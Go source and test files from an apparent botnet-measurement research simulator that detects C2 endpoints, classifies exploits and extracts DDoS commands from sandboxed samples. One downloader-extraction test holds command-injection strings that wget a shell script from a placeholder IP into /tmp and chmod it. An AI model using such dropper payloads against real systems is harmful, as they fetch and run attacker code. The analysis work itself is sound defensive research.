	ref := runCkptStudy(t, seed, 1, filepath.Join(base, "ref.jsonl"), "", false, -1)

	ckptDir := filepath.Join(base, "ckpt")
	journal := filepath.Join(base, "run.jsonl")
	runCkptStudy(t, seed, 2, journal, ckptDir, false, 17)

	// Shadow the kill point's snapshot with a newer, truncated one —
	// the shape a crash mid-write leaves on a filesystem without
	// atomic rename.
	snap, _, err := checkpoint.Latest(ckptDir)
	if err != nil || snap == nil {
		t.Fatalf("killed run left no checkpoint: %v", err)
	}
	enc, err := os.ReadFile(snap.Path)
	if err != nil {
		t.Fatal(err)
	}
	if err := os.WriteFile(checkpoint.DayPath(ckptDir, snap.Day+40), enc[:len(enc)/2], 0o644); err != nil {
		t.Fatal(err)
	}

	got := runCkptStudy(t, seed, 2, journal, ckptDir, true, -1)
	if got.datasets != ref.datasets {
		t.Fatal("resume past a corrupt snapshot diverged from the uninterrupted run")
	}
	const marker = "counter checkpoint.skipped_corrupt 1\n"
	if !strings.Contains(got.metrics, marker) {
		t.Fatalf("metrics snapshot does not log the skipped snapshot:\n%s", got.metrics)
	}
	if strings.Replace(got.metrics, marker, "", 1) != ref.metrics {
		t.Fatal("resumed metrics differ from reference beyond the skipped_corrupt counter")
	}
}

// TestCheckpointFingerprintMismatch asserts the refusal path: a
// snapshot written by one configuration must not silently seed a
// differently configured run, and the error must name the offending
// fields.
func TestCheckpointFingerprintMismatch(t *testing.T) {
	ckptDir := t.TempDir()
	w := world.Generate(ckptWorldConfig(7))
	scfg := ckptStudyConfig(7, 2)
	scfg.Analysis.Probing = false
	scfg.Durability = CheckpointConfig{Dir: ckptDir}
	ctx, cancel := context.WithCancel(context.Background())
	defer cancel()
	w.Clock.Schedule(world.StudyStart().AddDate(0, 0, 17), cancel)
	if _, err := RunStudyContext(ctx, w, scfg); !errors.Is(err, context.Canceled) {
		t.Fatalf("killed run: %v", err)
	}
	if snap, _, _ := checkpoint.Latest(ckptDir); snap == nil {
		t.Fatal("killed run left no checkpoint to test against")
	}

	w2 := world.Generate(ckptWorldConfig(7))
	scfg2 := ckptStudyConfig(7, 2)
	scfg2.Analysis.Probing = false
	scfg2.Determinism.Seed = 8
	scfg2.Analysis.MinEngines = 7
	scfg2.Durability = CheckpointConfig{Dir: ckptDir, Resume: true}
	_, err := RunStudyContext(context.Background(), w2, scfg2)
	if err == nil {
		t.Fatal("resume under a different config did not fail")
	}
	for _, field := range []string{"seed", "min_engines"} {
		if !strings.Contains(err.Error(), field) {
			t.Fatalf("mismatch error does not name %q: %v", field, err)
		}
	}
}
