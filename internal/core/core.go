package core
