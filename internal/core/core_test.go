package core

import (
	"math/rand"
	"net/netip"
	"testing"
	"time"

	"malnet/internal/binfmt"
	"malnet/internal/c2"
	"malnet/internal/intel"
	"malnet/internal/sandbox"
	"malnet/internal/simclock"
	"malnet/internal/simnet"
)

var t0 = time.Date(2021, 6, 1, 0, 0, 0, 0, time.UTC)

// runSample encodes and runs one sample in a fresh environment,
// returning the report.
func runSample(t *testing.T, cfg binfmt.BotConfig, opts sandbox.RunOptions, setup func(n *simnet.Network)) *sandbox.Report {
	t.Helper()
	clock := simclock.New(t0)
	n := simnet.New(clock, simnet.DefaultConfig())
	if setup != nil {
		setup(n)
	}
	sb := sandbox.New(n, sandbox.Config{Seed: 1})
	raw, err := binfmt.Encode(cfg, rand.New(rand.NewSource(11)), nil)
	if err != nil {
		t.Fatal(err)
	}
	rep, err := sb.Run(raw, opts)
	if err != nil {
		t.Fatal(err)
	}
	return rep
}

func TestDetectC2FindsIPEndpoint(t *testing.T) {
	rep := runSample(t, binfmt.BotConfig{
		Family: "mirai", Variant: "v1", C2Addrs: []string{"60.0.0.9:23"},
	}, sandbox.RunOptions{Mode: sandbox.ModeIsolated, Duration: 10 * time.Minute}, nil)
	cands := DetectC2(rep, 2)
	if len(cands) != 1 {
		t.Fatalf("candidates = %d, want 1", len(cands))
	}
	c := cands[0]
	if c.Address != "60.0.0.9:23" || c.Kind != intel.KindIP || c.Port != 23 {
		t.Fatalf("candidate = %+v", c)
	}
	if c.Signature != "mirai-handshake" {
		t.Fatalf("signature = %q", c.Signature)
	}
	if !c.Live {
		t.Fatal("InetSim session should count as live engagement")
	}
}

func TestDetectC2FindsDNSEndpoint(t *testing.T) {
	rep := runSample(t, binfmt.BotConfig{
		Family: "gafgyt", Variant: "v1", C2Addrs: []string{"cnc.bot.example:6667"},
	}, sandbox.RunOptions{Mode: sandbox.ModeIsolated, Duration: 10 * time.Minute}, nil)
	cands := DetectC2(rep, 2)
	if len(cands) != 1 {
		t.Fatalf("candidates = %d, want 1", len(cands))
	}
	if cands[0].Address != "cnc.bot.example:6667" || cands[0].Kind != intel.KindDNS {
		t.Fatalf("candidate = %+v", cands[0])
	}
}

func TestDetectC2IgnoresScanTraffic(t *testing.T) {
	rep := runSample(t, binfmt.BotConfig{
		Family: "gafgyt", Variant: "v1", C2Addrs: []string{"60.0.0.9:6667"},
		ScanPorts: []uint16{80}, ExploitIDs: []string{"gpon-rce"},
	}, sandbox.RunOptions{Mode: sandbox.ModeIsolated, Duration: 20 * time.Minute, HandshakerThreshold: 20}, nil)
	cands := DetectC2(rep, 2)
	for _, c := range cands {
		if c.Port == 80 {
			t.Fatalf("scan endpoint classified as C2: %+v", c)
		}
	}
	if len(cands) != 1 {
		t.Fatalf("candidates = %d, want 1 (only the true C2)", len(cands))
	}
}

func TestDetectC2DeadServerStillDetected(t *testing.T) {
	// In live mode with a dead C2, the repeated SYN attempts alone
	// must reveal the endpoint (no payload ever flows).
	rep := runSample(t, binfmt.BotConfig{
		Family: "mirai", Variant: "v1", C2Addrs: []string{"60.0.0.9:23"},
	}, sandbox.RunOptions{Mode: sandbox.ModeLive, Duration: 30 * time.Minute}, nil)
	cands := DetectC2(rep, 2)
	if len(cands) != 1 {
		t.Fatalf("candidates = %d, want 1", len(cands))
	}
	if cands[0].Live {
		t.Fatal("dead C2 marked live")
	}
	if cands[0].Attempts < 2 {
		t.Fatalf("attempts = %d", cands[0].Attempts)
	}
}

func TestLiveC2Helper(t *testing.T) {
	if LiveC2([]C2Candidate{{Live: false}, {Live: true}}) != true {
		t.Fatal("LiveC2 missed a live candidate")
	}
	if LiveC2(nil) {
		t.Fatal("LiveC2(nil) = true")
	}
}

func TestObservedLifespanFloorsAtOneDay(t *testing.T) {
	if got := ObservedLifespan(t0, t0.Add(2*time.Hour)); got != 24*time.Hour {
		t.Fatalf("lifespan = %v", got)
	}
	if got := ObservedLifespan(t0, t0.Add(72*time.Hour)); got != 72*time.Hour {
		t.Fatalf("lifespan = %v", got)
	}
}

func TestClassifyExploitsEndToEnd(t *testing.T) {
	rep := runSample(t, binfmt.BotConfig{
		Family: "gafgyt", Variant: "v1", C2Addrs: []string{"60.0.0.9:6667"},
		ScanPorts: []uint16{80}, ExploitIDs: []string{"gpon-rce"},
		LoaderName: "t8UsA2.sh", DownloaderAddr: "60.0.0.9:80",
	}, sandbox.RunOptions{Mode: sandbox.ModeIsolated, Duration: 20 * time.Minute, HandshakerThreshold: 20}, nil)
	findings := ClassifyExploits(rep)
	if len(findings) != 1 {
		t.Fatalf("findings = %d, want 1", len(findings))
	}
	f := findings[0]
	if len(f.Vulns) != 1 || f.Vulns[0].Key != "gpon-rce" {
		t.Fatalf("vulns = %+v", f.Vulns)
	}
	if f.Downloader != "60.0.0.9:80" || f.Loader != "t8UsA2.sh" {
		t.Fatalf("downloader = %q loader = %q", f.Downloader, f.Loader)
	}
}

func TestExtractDownloaderForms(t *testing.T) {
	cases := []struct {
		payload          string
		wantAddr, wantLd string
	}{
		{"x`cd /tmp; wget http://60.0.0.5:80/t8UsA2.sh; chmod 777`", "60.0.0.5:80", "t8UsA2.sh"},
		{"GET /shell?cd%20/tmp;%20wget%20http://60.0.0.5:80/jaws.sh;", "60.0.0.5:80", "jaws.sh"},
		{"wget http://dl.example.com/wget.sh;", "dl.example.com:80", "wget.sh"},
	}
	for _, tc := range cases {
		addr, ld, ok := ExtractDownloader([]byte(tc.payload))
		if !ok || addr != tc.wantAddr || ld != tc.wantLd {
			t.Errorf("ExtractDownloader(%q) = %q, %q, %v", tc.payload, addr, ld, ok)
		}
	}
	if _, _, ok := ExtractDownloader([]byte("no fetch here")); ok {
		t.Fatal("matched payload without wget")
	}
}

// ddosFixture runs a sample against a live C2 that issues an attack.
func ddosFixture(t *testing.T, family string, cmd c2.Command) (*sandbox.Report, []C2Candidate) {
	t.Helper()
	clock := simclock.New(t0)
	n := simnet.New(clock, simnet.DefaultConfig())
	srv := c2.NewServer(n, c2.ServerConfig{
		Family: family, Addr: simnet.AddrFrom("60.0.0.9", 23),
		Birth: t0, Death: t0.Add(100 * 24 * time.Hour), AlwaysOn: true,
	})
	srv.ScheduleAttack(t0.Add(5*time.Minute), cmd, 3)
	sb := sandbox.New(n, sandbox.Config{Seed: 1})
	raw, err := binfmt.Encode(binfmt.BotConfig{
		Family: family, Variant: "v1", C2Addrs: []string{"60.0.0.9:23"},
	}, rand.New(rand.NewSource(5)), nil)
	if err != nil {
		t.Fatal(err)
	}
	rep, err := sb.Run(raw, sandbox.RunOptions{Mode: sandbox.ModeLive, Duration: 30 * time.Minute, RestrictToC2: true})
	if err != nil {
		t.Fatal(err)
	}
	return rep, DetectC2(rep, 2)
}

func TestExtractDDoSProfileMirai(t *testing.T) {
	victim := netip.MustParseAddr("70.0.0.7")
	cmd := c2.Command{Attack: c2.AttackUDPFlood, Target: victim, Port: 80, Duration: 10 * time.Second}
	rep, cands := ddosFixture(t, c2.FamilyMirai, cmd)
	obs := ExtractDDoS(rep, c2.FamilyMirai, cands, DefaultDDoSExtractorConfig())
	if len(obs) == 0 {
		t.Fatal("no DDoS observations")
	}
	o := obs[0]
	if o.Method != MethodProfile {
		t.Fatalf("method = %s", o.Method)
	}
	if o.Command.Attack != c2.AttackUDPFlood || o.Command.Target != victim || o.Command.Port != 80 {
		t.Fatalf("command = %+v", o.Command)
	}
	if !o.Verified {
		t.Fatal("profile command not verified against flood traffic")
	}
	if o.C2 != "60.0.0.9:23" {
		t.Fatalf("C2 = %q", o.C2)
	}
}

func TestExtractDDoSProfileGafgytText(t *testing.T) {
	victim := netip.MustParseAddr("70.0.0.8")
	cmd := c2.Command{Attack: c2.AttackVSE, Target: victim, Port: 27015, Duration: 10 * time.Second}
	rep, cands := ddosFixture(t, c2.FamilyGafgyt, cmd)
	obs := ExtractDDoS(rep, c2.FamilyGafgyt, cands, DefaultDDoSExtractorConfig())
	if len(obs) == 0 {
		t.Fatal("no observations")
	}
	if obs[0].Command.Attack != c2.AttackVSE || !obs[0].Verified {
		t.Fatalf("obs = %+v", obs[0])
	}
}

func TestExtractDDoSHeuristicForUnprofiledFamily(t *testing.T) {
	victim := netip.MustParseAddr("70.0.0.9")
	cmd := c2.Command{Attack: c2.AttackUDPFlood, Target: victim, Port: 80, Duration: 10 * time.Second}
	rep, cands := ddosFixture(t, c2.FamilyGafgyt, cmd)
	// Pretend the family has no profile: force heuristic-only.
	cfg := DefaultDDoSExtractorConfig()
	cfg.ProfileFamilies = map[string]bool{}
	obs := ExtractDDoS(rep, c2.FamilyGafgyt, cands, cfg)
	if len(obs) != 1 {
		t.Fatalf("observations = %d, want 1", len(obs))
	}
	o := obs[0]
	if o.Method != MethodHeuristic {
		t.Fatalf("method = %s", o.Method)
	}
	if o.Command.Target != victim {
		t.Fatalf("target = %v", o.Command.Target)
	}
	if !o.Verified {
		t.Fatal("heuristic verification failed: target IP is in the text command")
	}
}

func TestExtractDDoSHeuristicThresholdSuppresses(t *testing.T) {
	victim := netip.MustParseAddr("70.0.0.9")
	cmd := c2.Command{Attack: c2.AttackUDPFlood, Target: victim, Port: 80, Duration: 10 * time.Second}
	rep, cands := ddosFixture(t, c2.FamilyGafgyt, cmd)
	cfg := DefaultDDoSExtractorConfig()
	cfg.ProfileFamilies = map[string]bool{}
	cfg.RateThreshold = 1e9 // nothing is that fast
	if obs := ExtractDDoS(rep, c2.FamilyGafgyt, cands, cfg); len(obs) != 0 {
		t.Fatalf("observations = %d above an impossible threshold", len(obs))
	}
}

func TestExtractDDoSNoAttackNoObservations(t *testing.T) {
	rep := runSample(t, binfmt.BotConfig{
		Family: "mirai", Variant: "v1", C2Addrs: []string{"60.0.0.9:23"},
	}, sandbox.RunOptions{Mode: sandbox.ModeIsolated, Duration: 10 * time.Minute}, nil)
	cands := DetectC2(rep, 2)
	if obs := ExtractDDoS(rep, c2.FamilyMirai, cands, DefaultDDoSExtractorConfig()); len(obs) != 0 {
		t.Fatalf("observations = %d on idle session", len(obs))
	}
}

func TestHeuristicAttackTypeInference(t *testing.T) {
	if attackFromTraffic(simnet.ProtoICMP, 0) != c2.AttackBlacknurse {
		t.Fatal("ICMP flood not classified as BLACKNURSE")
	}
	if attackFromTraffic(simnet.ProtoTCP, simnet.FlagSYN) != c2.AttackSYNFlood {
		t.Fatal("SYN flood not classified")
	}
	if attackFromTraffic(simnet.ProtoUDP, 0) != c2.AttackUDPFlood {
		t.Fatal("UDP flood not classified")
	}
}

func TestTargetInCommandBinaryAndString(t *testing.T) {
	ip := netip.MustParseAddr("10.1.2.3")
	if !targetInCommand(ip, []byte("UDPRAW 10.1.2.3 80 60")) {
		t.Fatal("string form not found")
	}
	if !targetInCommand(ip, []byte{0x00, 10, 1, 2, 3, 0x00}) {
		t.Fatal("binary form not found")
	}
	if targetInCommand(ip, []byte("nothing")) {
		t.Fatal("false positive")
	}
}
