package core

import (
	"bytes"
	"fmt"
	"net/netip"
	"sort"
	"time"

	"malnet/internal/c2"
	"malnet/internal/sandbox"
	"malnet/internal/simnet"
)

// DDoSMethod names the extraction method (§2.5).
type DDoSMethod string

// The paper's two extraction methods.
const (
	// MethodProfile parses C2 traffic with the per-family protocol
	// profiles (§2.5a).
	MethodProfile DDoSMethod = "profile"
	// MethodHeuristic flags outbound packet bursts above a pps
	// threshold and attributes them to the last C2 command (§2.5b).
	MethodHeuristic DDoSMethod = "heuristic"
)

// DDoSObservation is one extracted attack command — the D-DDOS unit
// of analysis.
type DDoSObservation struct {
	Time   time.Time
	SHA256 string
	// C2 is the issuing server's address string.
	C2 string
	// C2IP is the issuing server's concrete address.
	C2IP netip.Addr
	// Method is how the command was found.
	Method DDoSMethod
	// Command is the parsed attack (for the heuristic method the
	// attack type is inferred from the flood's transport).
	Command c2.Command
	// Verified reports the §2.5 cross-check: profile commands are
	// verified by observing flood traffic to the commanded target;
	// heuristic ones by finding the target's IP inside the last C2
	// command bytes.
	Verified bool
}

// DDoSExtractorConfig tunes extraction.
type DDoSExtractorConfig struct {
	// RateThreshold is the pps cutoff of the behavioral heuristic;
	// the paper uses 100.
	RateThreshold float64
	// ProfileFamilies limits protocol profiling to these families;
	// nil means the three the paper built profiles for.
	ProfileFamilies map[string]bool
}

// DefaultDDoSExtractorConfig returns the paper's settings.
func DefaultDDoSExtractorConfig() DDoSExtractorConfig {
	return DDoSExtractorConfig{
		RateThreshold: 100,
		ProfileFamilies: map[string]bool{
			c2.FamilyMirai: true, c2.FamilyGafgyt: true, c2.FamilyDaddyl33t: true,
		},
	}
}

// c2Payload is an inbound C2 message seen in the capture.
type c2Payload struct {
	at   time.Time
	from simnet.Addr
	data []byte
}

// ExtractDDoS applies both extraction methods to a live-session
// report. family is the sample's verified family label (drives which
// protocol profile applies); cands are the detected C2 endpoints.
func ExtractDDoS(rep *sandbox.Report, family string, cands []C2Candidate, cfg DDoSExtractorConfig) []DDoSObservation {
	if cfg.RateThreshold <= 0 {
		cfg.RateThreshold = 100
	}
	if cfg.ProfileFamilies == nil {
		cfg.ProfileFamilies = DefaultDDoSExtractorConfig().ProfileFamilies
	}
	c2IPs := map[netip.Addr]string{}
	for _, c := range cands {
		c2IPs[c.IP] = c.Address
	}

	// Collect inbound C2 payloads and outbound flood records in
	// one pass.
	var inbound []c2Payload
	type floodAgg struct {
		start, end time.Time
		proto      simnet.Protocol
		flags      simnet.TCPFlags
		packets    int
		maxPPS     float64
	}
	type floodKey struct {
		addr  simnet.Addr
		proto simnet.Protocol
	}
	floods := map[floodKey]*floodAgg{}
	for _, rec := range rep.Capture {
		if rec.Dst.IP == rep.HostIP && rec.Proto == simnet.ProtoTCP && len(rec.Payload) > 0 {
			if _, isC2 := c2IPs[rec.Src.IP]; isC2 {
				inbound = append(inbound, c2Payload{at: rec.Time, from: rec.Src, data: rec.Payload})
			}
			continue
		}
		if rec.Src.IP != rep.HostIP {
			continue
		}
		if _, isC2 := c2IPs[rec.Dst.IP]; isC2 {
			continue // C2-bound traffic is not attack traffic
		}
		pps := rec.PPS()
		if pps < cfg.RateThreshold {
			continue
		}
		key := floodKey{rec.Dst, rec.Proto}
		f := floods[key]
		if f == nil {
			f = &floodAgg{start: rec.Time, proto: rec.Proto, flags: rec.Flags}
			floods[key] = f
		}
		if rec.Time.After(f.end) {
			f.end = rec.Time.Add(rec.Span)
		}
		f.packets += rec.Count
		if pps > f.maxPPS {
			f.maxPPS = pps
		}
	}
	sort.Slice(inbound, func(i, j int) bool { return inbound[i].at.Before(inbound[j].at) })

	var out []DDoSObservation
	claimed := map[string]bool{} // target keys explained by profile commands

	// Method (a): protocol profiles.
	if cfg.ProfileFamilies[family] {
		for _, msg := range inbound {
			cmd := parseByProfile(family, msg.data)
			if cmd == nil {
				continue
			}
			obs := DDoSObservation{
				Time:    msg.at,
				SHA256:  rep.SHA256,
				C2:      c2IPs[msg.from.IP],
				C2IP:    msg.from.IP,
				Method:  MethodProfile,
				Command: *cmd,
			}
			// Verify: did a flood toward the commanded target begin
			// at (or just after) the command?
			for key, f := range floods {
				if key.addr.IP == cmd.Target && !f.start.Before(msg.at.Add(-time.Second)) {
					obs.Verified = true
					claimed[key.addr.String()+key.proto.String()] = true
				}
			}
			out = append(out, obs)
		}
	}

	// Method (b): behavioral heuristic for families without a
	// profile (and as a safety net for unparsed commands).
	for key, f := range floods {
		addr := key.addr
		if claimed[addr.String()+key.proto.String()] {
			continue
		}
		// Attribute to the last C2 message before the flood began.
		var last *c2Payload
		for i := range inbound {
			if !inbound[i].at.After(f.start) {
				last = &inbound[i]
			}
		}
		if last == nil {
			continue
		}
		obs := DDoSObservation{
			Time:   f.start,
			SHA256: rep.SHA256,
			C2:     c2IPs[last.from.IP],
			C2IP:   last.from.IP,
			Method: MethodHeuristic,
			Command: c2.Command{
				Attack:   attackFromTraffic(f.proto, f.flags),
				Target:   addr.IP,
				Port:     addr.Port,
				Duration: f.end.Sub(f.start),
				Raw:      last.data,
			},
			Verified: targetInCommand(addr.IP, last.data),
		}
		out = append(out, obs)
	}
	sort.Slice(out, func(i, j int) bool { return out[i].Time.Before(out[j].Time) })
	return out
}

// parseByProfile applies the family's protocol profile to one C2
// message. Only families whose spec declares a command grammar can
// be profiled; the rest fall through to the behavioral heuristic.
func parseByProfile(family string, data []byte) *c2.Command {
	p, ok := c2.Lookup(family)
	if !ok || !p.CanIssue() {
		return nil
	}
	cmd, err := p.DecodeCommand(data)
	if err != nil {
		return nil
	}
	return cmd
}

// attackFromTraffic infers the attack type from the flood's wire
// shape, for commands the profiles could not parse.
func attackFromTraffic(proto simnet.Protocol, flags simnet.TCPFlags) c2.AttackType {
	switch proto {
	case simnet.ProtoICMP:
		return c2.AttackBlacknurse
	case simnet.ProtoTCP:
		if flags&simnet.FlagSYN != 0 {
			return c2.AttackSYNFlood
		}
		return c2.AttackSTOMP
	}
	return c2.AttackUDPFlood
}

// targetInCommand implements the §2.5 heuristic verification:
// search for the string or 4-byte binary representation of the
// target IP in the command bytes.
func targetInCommand(target netip.Addr, cmd []byte) bool {
	if bytes.Contains(cmd, []byte(target.String())) {
		return true
	}
	if target.Is4() {
		b := target.As4()
		return bytes.Contains(cmd, b[:])
	}
	return false
}

// String renders the observation for reports.
func (o DDoSObservation) String() string {
	return fmt.Sprintf("%s %s via %s (%s, verified=%v)",
		o.Time.Format("2006-01-02 15:04"), o.Command, o.C2, o.Method, o.Verified)
}
