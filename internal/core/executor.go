package core

import (
	"context"
	"runtime"
	"sync"
	"time"

	"malnet/internal/avclass"
	"malnet/internal/binfmt"
	"malnet/internal/c2"
	"malnet/internal/faultinject"
	"malnet/internal/obs"
	"malnet/internal/sandbox"
	"malnet/internal/simclock"
	"malnet/internal/world"
	"malnet/internal/yara"
)

// The parallel study executor.
//
// analyzeSample used to be one sequential function; it is now split
// into three stages with different sharing requirements:
//
//   - prepare (serial, feed order): encode the binary and publish it
//     to the intel feed. Registration mutates the intel DB, so it
//     stays on the merge goroutine; encoding is pure per-sample and
//     runs in the pool first.
//   - static + isolated (parallel): arch sniff, intel gate,
//     YARA/AVClass labeling, and the isolated sandbox run. Every
//     worker owns a private shard — its own simclock.Clock and
//     simnet.Network — so nothing here touches the world clock or
//     net. Isolated-mode runs never needed the rest of the world:
//     InetSim answers everything and scanned addresses are dead air.
//   - merge + live (serial, feed order): fold counters and records
//     into the Study and run the day-0 liveness / DDoS-watch windows
//     on the shared sandbox, advancing the shared world clock exactly
//     as the sequential pipeline did.
//
// Determinism at any worker count follows from three properties:
// every parallel stage is a pure function of (world seed, sample),
// shards are rebuilt from seed state per sample so no cross-sample
// state survives, and all mutation of shared state happens on one
// goroutine in stable feed order.

// shard is one worker's private sandbox slot: a clock the worker owns
// plus the seed state to rebuild a fresh network and sandbox around
// it for every sample.
type shard struct {
	clock  *simclock.Clock
	seed   int64
	dns    world.Resolver
	faults *faultinject.Plan
}

// run executes one isolated activation at virtual time `at` on a
// freshly built sandbox, so no scheduled event, latency cache entry,
// or ephemeral-port cursor can leak between samples. The study's
// fault plan (if any) is re-installed on every fresh network; since
// the plan is a pure function and per-connection sequence counters
// restart with the network, the same sample draws the same fault
// schedule on every worker.
// The shard network meters onto rec — the sample's private recorder,
// merged into the study root in feed order.
func (sh *shard) run(at time.Time, raw []byte, opts sandbox.RunOptions, rec *obs.Recorder) (*sandbox.Report, error) {
	sh.clock.Reset(at)
	sb := sandbox.NewShard(sh.clock, sh.seed, sh.dns, rec)
	if sh.faults != nil {
		sb.Network().InstallFaults(sh.faults)
	}
	return sb.Run(raw, opts)
}

// sampleOutcome carries one feed entry through the pipeline stages.
// Parallel stages write only their own outcome; the merge stage reads
// them in feed order.
type sampleOutcome struct {
	spec *world.SampleSpec
	// at is the shared-clock time the batch started; shard clocks
	// anchor here so reports are timestamped identically at any
	// worker count.
	at  time.Time
	raw []byte // nil: encode/publish failed, skip silently

	filtered bool          // non-MIPS, counted in FilteredArch
	rejected bool          // under the MinEngines bar
	rec      *SampleRecord // accepted sample, pending merge
	isoOK    bool          // isolated run completed
	isoCands []C2Candidate // DetectC2 over the isolated report

	// obs is the sample's private recorder: the parallel stage and
	// the shard network write here, the merge goroutine folds it into
	// the study root in feed order (dispatch barriers carry the
	// ownership handoff). span is the sample's virtual-time trace.
	obs  *obs.Recorder
	span *obs.Span
}

// executor owns the worker pool. One executor serves a whole study;
// each daily batch dispatches into it twice (encode, then
// static+isolated) and merges in between on the caller's goroutine.
type executor struct {
	ctx     context.Context
	tasks   chan func(*shard)
	batch   sync.WaitGroup // outstanding tasks of the current dispatch
	workers sync.WaitGroup // live worker goroutines
}

// resolveWorkers maps the StudyConfig.Workers knob to a pool size:
// 0 means GOMAXPROCS, anything below 1 is clamped to 1.
func resolveWorkers(n int) int {
	if n == 0 {
		n = runtime.GOMAXPROCS(0)
	}
	if n < 1 {
		n = 1
	}
	return n
}

// newExecutor starts n workers, each owning one shard. The shard
// clock's anchor is reset per sample, so the start value is
// irrelevant; the world's start keeps timestamps plausible if a bug
// ever leaks one.
// wall receives the pool's wall-clock profile (per-worker busy time,
// live queue depth); it never feeds the deterministic plane.
func newExecutor(ctx context.Context, n int, seed int64, dns world.Resolver, start time.Time, faults *faultinject.Plan, wall *obs.Wall) *executor {
	ex := &executor{
		ctx:   ctx,
		tasks: make(chan func(*shard), n),
	}
	wall.SetGauge("executor.workers", func() int64 { return int64(n) })
	wall.SetGauge("executor.queue_depth", func() int64 { return int64(len(ex.tasks)) })
	ex.workers.Add(n)
	for i := 0; i < n; i++ {
		go func() {
			defer ex.workers.Done()
			sh := &shard{clock: simclock.New(start), seed: seed, dns: dns, faults: faults}
			for fn := range ex.tasks {
				stop := wall.Timer("worker.busy")
				fn(sh)
				stop()
				ex.batch.Done()
			}
		}()
	}
	return ex
}

// close shuts the pool down and waits for every worker to exit, so a
// finished (or cancelled) study leaves no goroutines behind.
func (ex *executor) close() {
	close(ex.tasks)
	ex.workers.Wait()
}

// dispatch fans fn out over n indices and waits for all of them.
// On cancellation it stops feeding the pool, waits for in-flight
// tasks, and returns the context error; tasks already queued see the
// cancelled context and return without working.
func (ex *executor) dispatch(n int, fn func(sh *shard, i int)) error {
	ex.batch.Add(n)
	sent := 0
	for i := 0; i < n && ex.ctx.Err() == nil; i++ {
		i := i
		select {
		case ex.tasks <- func(sh *shard) {
			if ex.ctx.Err() == nil {
				fn(sh, i)
			}
		}:
			sent++
		case <-ex.ctx.Done():
		}
	}
	for j := sent; j < n; j++ {
		ex.batch.Done()
	}
	ex.batch.Wait()
	return ex.ctx.Err()
}

// runBatch pushes one day's feed through the staged pipeline.
func (st *Study) runBatch(ex *executor, sb *sandbox.Sandbox, specs []*world.SampleSpec) error {
	if len(specs) == 0 {
		return nil
	}
	at := st.W.Clock.Now()
	events := st.obs != nil && st.obs.Journal != nil
	outs := make([]*sampleOutcome, len(specs))
	for i, spec := range specs {
		rec := obs.NewRecorder()
		rec.EnableEvents(events)
		outs[i] = &sampleOutcome{spec: spec, at: at, obs: rec}
	}

	// Encode (parallel, pure per-sample: SampleSpec memoization is
	// single-writer here).
	stop := st.obs.Wall.Timer("batch.encode")
	err := ex.dispatch(len(outs), func(_ *shard, i int) {
		if raw, err := outs[i].spec.Binary(); err == nil {
			outs[i].raw = raw
		} else {
			outs[i].obs.Counter("feed.encode_failures").Inc()
		}
	})
	stop()
	if err != nil {
		return err
	}

	// Publish (serial, feed order: intel registration mutates the
	// shared DB and must precede this batch's scans).
	for _, out := range outs {
		if out.raw == nil {
			continue
		}
		if err := st.W.PublishSample(out.spec); err != nil {
			out.raw = nil
			out.obs.Counter("feed.publish_failures").Inc()
		}
	}

	// Static analysis + isolated activation (parallel, per-worker
	// shards).
	stop = st.obs.Wall.Timer("batch.static_isolated")
	err = ex.dispatch(len(outs), func(sh *shard, i int) {
		st.analyzeStatic(sh, outs[i])
	})
	stop()
	if err != nil {
		return err
	}

	// Merge + live windows (serial, feed order, shared clock).
	stop = st.obs.Wall.Timer("batch.merge_live")
	for _, out := range outs {
		st.mergeOutcome(sb, out)
	}
	stop()
	// World-network events (live windows, probing) accumulate on the
	// world recorder; drain them here, on the single merge goroutine,
	// so the journal order stays deterministic.
	st.drainWorldEvents()
	return nil
}

// analyzeStatic is the parallel stage: collection filters, labeling,
// and the isolated sandbox run (§2.2–§2.4), all pure per-sample.
func (st *Study) analyzeStatic(sh *shard, out *sampleOutcome) {
	raw := out.raw
	if raw == nil {
		return
	}
	reg := out.obs.Registry()
	sp := obs.NewSpan("sample", out.at)
	sp.SetAttr("date", out.spec.Date.Format("2006-01-02"))
	out.span = sp
	// Collection filter: the study analyzes MIPS 32B only (§2.2).
	if arch, err := binfmt.SniffArch(raw); err != nil || arch != binfmt.ArchMIPS32BE {
		out.filtered = true
		reg.Counter("feed.decoys_skipped").Inc()
		sp.SetAttr("verdict", "filtered_arch")
		sp.Finish(out.at)
		return
	}
	// SHA256 re-derives from the encoded binary; Binary() succeeding
	// above makes failure unreachable today, but slicing sha[:12] on
	// an empty string would panic the whole worker pool, so the error
	// path is real: count it and skip the sample like a filtered one.
	sha, err := out.spec.SHA256()
	if err != nil {
		reg.Counter("feed.sha_failures").Inc()
		sp.SetAttr("verdict", "sha_failure")
		sp.Finish(out.at)
		return
	}
	sp.SetAttr("sha", sha[:12])

	// Collection gate: >= MinEngines corroborating detections.
	dets := st.W.Intel.ScanSample(sha, out.at)
	if avclass.MaliciousCount(dets) < st.Cfg.Analysis.MinEngines {
		out.rejected = true
		reg.Counter("feed.rejected_intel").Inc()
		sp.SetAttr("verdict", "rejected_intel")
		sp.Finish(out.at)
		return
	}
	reg.Counter("feed.samples_accepted").Inc()
	rec := &SampleRecord{SHA: sha, Date: out.spec.Date, Detections: len(dets)}
	rules := yara.IoTFamilies()
	rec.FamilyYARA = rules.FamilyOf(raw)
	rec.FamilyAVClass, _ = avclass.Label(dets)
	rec.Family = rec.FamilyYARA
	if rec.Family == "" {
		rec.Family = rec.FamilyAVClass
	}
	rec.P2P = rec.Family == c2.FamilyMozi || rec.Family == c2.FamilyHajime
	out.rec = rec
	sp.SetAttr("family", rec.Family)

	// Isolated run: C2 detection and exploit capture. The stage span
	// is anchored to the shard clock, which mirrors the world clock's
	// batch anchor, so its bounds are worker-count-independent.
	iso := sp.Child("stage.isolated", out.at)
	isoRep, err := sh.run(out.at, raw, sandbox.RunOptions{
		Mode:                sandbox.ModeIsolated,
		Duration:            st.Cfg.Windows.Sandbox,
		HandshakerThreshold: st.Cfg.Analysis.HandshakerThreshold,
		EventBudget:         st.Cfg.Determinism.EventBudget,
	}, out.obs)
	if err != nil {
		reg.Counter("sandbox.parse_failures").Inc()
		iso.SetAttr("error", "parse")
		iso.Finish(out.at)
		sp.Finish(out.at)
		return
	}
	out.isoOK = true
	reg.Counter("sandbox.runs").Inc()
	if isoRep.Activated {
		reg.Counter("sandbox.activations").Inc()
	}
	reg.Histogram("sandbox.events_per_run", eventBudgetBuckets).Observe(int64(isoRep.EventsFired))
	if isoRep.TimedOut {
		reg.Counter("sandbox.watchdog_aborts").Inc()
	}
	spanReport(iso, isoRep)
	iso.Finish(isoRep.Ended)
	rec.Activated = isoRep.Activated
